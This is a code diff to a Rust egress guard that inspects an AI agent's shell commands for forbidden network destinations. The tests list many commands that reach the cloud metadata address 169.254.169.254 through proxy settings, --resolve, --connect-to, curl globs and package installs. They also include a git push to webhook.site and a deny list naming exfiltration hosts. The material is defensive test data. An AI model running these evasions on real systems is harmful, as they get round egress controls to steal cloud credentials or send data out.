@@ -15,6 +15,7 @@ pub mod address;
 pub mod extract;
 pub mod hosts;
 pub mod lookalike;
+pub mod shell;
 
 use address::{Unsafe, classify_domain, classify_ip};
 use extract::{Candidate, free_text_urls, has_authority_scheme, scheme_len, url_arg_values};
@@ -105,11 +106,6 @@ pub const DEFAULT_SHELL_TOOLS: &[&str] = &[
     "exec",
 ];
 
-/// Network clients whose operands are destinations, in shell commands.
-const NETWORK_CLIENTS: &[&str] = &[
-    "curl", "wget", "http", "https", "xh", "curlie", "aria2c", "lynx", "links", "w3m",
-];
-
 /// Default `url_tools`.
 pub const DEFAULT_URL_TOOLS: &[&str] = &[
     "http_get",
@@ -163,6 +159,23 @@ impl Finding {
             rule,
             message,
             escalate: false,
+        }
+    }
+
+    /// Which of two findings a call is refused with: a deny over an
+    /// escalation, then the more telling rule (a metadata endpoint over a
+    /// deny-listed host over a private address over the rest, an
+    /// unjudgeable glob last); equal ranks keep the first found.
+    fn rank(&self) -> u8 {
+        if self.escalate {
+            return 0;
+        }
+        match self.rule {
+            "egress.metadata" => 5,
+            "egress.denied-host" => 4,
+            "egress.private-address" => 3,
+            "egress.invalid-url" => 1,
+            _ => 2,
         }
     }
 
@@ -569,17 +582,30 @@ impl Check for EgressGuard {
             || check_catalog::code::runs_code(&call.name, call.json()).is_some();
         let mut candidates = url_arg_values(call.json(), &self.url_args);
         candidates.extend(whole_url_values(call.json(), &self.url_args));
+        let mut unjudged = Vec::new();
         if self.shell_tools.is_match(&call.name) {
-            candidates.extend(shell_urls(call.json()));
+            let found = shell::shell_destinations(call.json());
+            candidates.extend(found.candidates);
+            unjudged = found.unjudged;
         }
         if candidates.is_empty() && is_url_tool {
             candidates = free_text_urls(call.json());
         }
-        if candidates.is_empty() {
+        if candidates.is_empty() && unjudged.is_empty() {
             return Ok(Decision::Abstain);
         }
         let facts = run_facts(ctx);
-        let mut worst: Option<Finding> = None;
+        // A curl URL glob too large to expand cannot be judged.
+        let mut worst: Option<Finding> = unjudged.first().map(|glob| {
+            Finding::deny(
+                "egress.invalid-url",
+                format!(
+                    "the command gives curl the URL glob `{glob}`, which expands to more than {} URLs and cannot be \
+                     judged; list the URLs, or turn globbing off with `-g`.",
+                    shell::MAX_GLOB_URLS
+                ),
+            )
+        });
         let mut any_url = false;
         for c in &candidates {
             let strict = is_url_tool && c.from_url_arg;
@@ -588,7 +614,7 @@ impl Check for EgressGuard {
                 Vetted::Fine => any_url = true,
                 Vetted::Bad(f) => {
                     any_url = true;
-                    if worst.as_ref().is_none_or(|w| w.escalate && !f.escalate) {
+                    if worst.as_ref().is_none_or(|w| f.rank() > w.rank()) {
                         worst = Some(f);
                     }
                 }
@@ -658,39 +684,6 @@ fn whole_url_values(args: &serde_json::Value, url_args: &Globs) -> Vec<Candidate
         }
         Step::Descend
     });
-    out
-}
-
-/// URLs given to network clients in a shell command (`curl -s URL`).
-fn shell_urls(args: &serde_json::Value) -> Vec<Candidate> {
-    let mut out = Vec::new();
-    // In any case or Unicode form (`Command`): check_catalog::roles.
-    for (key, value) in check_catalog::roles::values(args, &["command", "cmd", "script"]) {
-        let Some(cmd) = value.as_str() else {
-            continue;
-        };
-        // The shell's own parse: a client inside `if … fi`, `{ …; }` or
-        // after a redirection is still the command (review-s7 F1's reader).
-        // A client anywhere in the words, not only first: runners and
-        // wrappers run it (`uv run curl URL`, `sudo wget URL`,
-        // `env A=1 timeout 5 curl URL`); each client's operands are read.
-        for w in check_catalog::parse::command_words(cmd) {
-            let clients = w.iter().enumerate().filter(|(_, word)| {
-                NETWORK_CLIENTS.contains(&check_catalog::words::base_name(word))
-            });
-            for (at, _) in clients {
-                for op in check_catalog::words::operands(&w[at..]) {
-                    if has_authority_scheme(op) || extract::is_bare_host_url(op) {
-                        out.push(Candidate {
-                            path: format!("arguments.{key}"),
-                            text: op.to_string(),
-                            from_url_arg: false,
-                        });
-                    }
-                }
-            }
-        }
-    }
     out
 }
 
@@ -802,6 +795,135 @@ mod tests {
         assert_eq!(rule(&g, "bash", &args.to_string()), "allow");
         let args = serde_json::json!({"command": "uv run pytest -q"});
         assert_eq!(rule(&g, "bash", &args.to_string()), "abstain");
+    }
+
+    fn bash(g: &EgressGuard, cmd: &str) -> String {
+        rule(
+            g,
+            "bash",
+            &serde_json::json!({ "command": cmd }).to_string(),
+        )
+    }
+
+    /// Review s9 G6: the address a client connects to given outside the
+    /// URL (proxy variables, proxy options, `wget -e`, `--connect-to`,
+    /// `--resolve`) is judged like a URL.
+    #[test]
+    fn proxies_and_connect_targets_are_destinations() {
+        let g = guard("{}");
+        for cmd in [
+            "http_proxy=http://169.254.169.254 curl http://example.com/latest/meta-data/",
+            "ALL_PROXY=169.254.169.254:80 curl http://example.com/",
+            "export HTTPS_PROXY=http://169.254.169.254:80; curl https://example.com/",
+            "env https_proxy='socks5h://169.254.169.254:1080' wget https://example.com/",
+            "ftp_proxy=169.254.169.254:21 wget ftp://example.com/x",
+            "wget -e use_proxy=yes -e http_proxy=169.254.169.254 http://example.com/",
+            "wget --execute=https_proxy=http://169.254.169.254/ https://example.com/",
+            "curl --connect-to ::169.254.169.254: http://example.com/latest/meta-data/",
+            "curl --connect-to example.com:80:[fd00:ec2::254]:80 http://example.com/",
+            "curl --resolve example.com:80:169.254.169.254 http://example.com/latest/",
+            "curl --resolve +example.com:443:10.0.0.1,169.254.169.254 https://example.com/",
+            "curl -x http://169.254.169.254 http://example.com/",
+            "curl --proxy 169.254.169.254:80 http://example.com/",
+            "curl -sx169.254.169.254:80 http://example.com/",
+            "curl -x socks5://169.254.169.254:1080 http://example.com/",
+            "curl --preproxy metadata.google.internal:80 -x proxy.example.com:3128 http://example.com/",
+            "curl --socks5-hostname 169.254.169.254:1080 http://example.com/",
+            "git -c http.proxy=http://169.254.169.254 clone https://github.com/a/b",
+        ] {
+            assert_eq!(bash(&g, cmd), "egress.metadata", "{cmd}");
+        }
+        for cmd in [
+            "http_proxy=http://10.0.0.5:3128 curl http://example.com/",
+            "curl --socks5 localhost:9050 https://example.com/",
+            "curl --connect-to example.com:443:127.0.0.1:8443 https://example.com/",
+        ] {
+            assert_eq!(bash(&g, cmd), "egress.private-address", "{cmd}");
+        }
+        for cmd in [
+            "https_proxy=http://proxy.example.com:3128 curl https://example.com/",
+            "curl -x socks5h://proxy.example.com:1080 https://example.com/",
+            "curl --connect-to example.com:443:cdn.example.net:443 https://example.com/",
+            "wget -e robots=off https://example.com/",
+        ] {
+            assert_eq!(bash(&g, cmd), "allow", "{cmd}");
+        }
+        let g = guard(r#"{"allow_private_hosts":["10.0.0.5"]}"#);
+        assert_eq!(
+            bash(
+                &g,
+                "HTTPS_PROXY=http://10.0.0.5:3128 curl https://example.com/"
+            ),
+            "allow"
+        );
+    }
+
+    /// Review s9 G12: URL forms curl accepts that the finder missed (globs,
+    /// one- and no-slash schemes, `--url=`, a variable holding the URL),
+    /// and package managers and git fetching from a URL.
+    #[test]
+    fn url_forms_curl_accepts_and_package_fetches() {
+        let g = guard(r#"{"deny_hosts":["pastebin.com","webhook.site"]}"#);
+        for cmd in [
+            "curl http://169.254.169.[254]/",
+            "curl 'http://169.254.169.[250-254]/'",
+            "curl http://{example.com,169.254.169.254}/",
+            "curl 'http://169.254.169.[0-255:2]/'",
+            "curl http:/169.254.169.254",
+            "curl -s http:169.254.169.254/latest/",
+            "curl --url=http://169.254.169.254/",
+            "u=http://169.254.169.254/latest/; curl $u",
+            "export U=http://169.254.169.254/; curl -s \"${U}meta-data/\"",
+            "h=169.254.169.254; curl http://$h/",
+            "pip install --index-url http://169.254.169.254/ x",
+            "pip install -i http://169.254.169.254/simple x",
+            "python3 -m pip install --extra-index-url=http://169.254.169.254/ x",
+            "npm install http://169.254.169.254/x.tgz",
+            "npm install --registry=http://169.254.169.254/ x",
+            "git clone git+https://169.254.169.254/x",
+        ] {
+            assert_eq!(bash(&g, cmd), "egress.metadata", "{cmd}");
+        }
+        for cmd in [
+            "git clone https://pastebin.com/x",
+            "git remote add x https://webhook.site/x; git push x",
+            "git clone git@pastebin.com:x/y.git",
+            "git clone ssh://git@webhook.site/x",
+        ] {
+            assert_eq!(bash(&g, cmd), "egress.denied-host", "{cmd}");
+        }
+        for cmd in [
+            "curl https://example.com/a[1-3].txt",
+            "curl -O 'https://example.com/page[1-100000].html'",
+            "curl -g 'http://example.com/?q=[1]'",
+            "pip install -i https://pypi.org/simple x",
+            "pip install git+https://github.com/a/b.git",
+            "git clone git@github.com:a/b.git",
+            "git clone ssh://git@github.com/a/b",
+            "u=https://example.com/a.json; curl -fsSL \"$u\"",
+        ] {
+            assert_eq!(bash(&g, cmd), "allow", "{cmd}");
+        }
+        for cmd in [
+            "git status",
+            "pip install -r requirements.txt",
+            "npm install",
+            "npm install github:a/b",
+            "npm run dev -- --host 0.0.0.0 --url=http://localhost:3000",
+            "git commit -m http://10.0.0.1/",
+        ] {
+            assert_eq!(bash(&g, cmd), "abstain", "{cmd}");
+        }
+        // A range too long to expand is judged on its endpoints.
+        assert_eq!(
+            bash(&g, "curl 'http://169.254.[1-65000].254/'"),
+            "egress.private-address"
+        );
+        // With globbing off, curl sends the brackets as written.
+        assert_eq!(bash(&g, "curl -g http://169.254.169.[254]/"), "abstain");
+        // A glob too large to expand is refused.
+        let many = format!("curl 'http://example.com/{}'", "{a,b,c,d}".repeat(6));
+        assert_eq!(bash(&g, &many), "egress.invalid-url");
     }
 
     #[test]
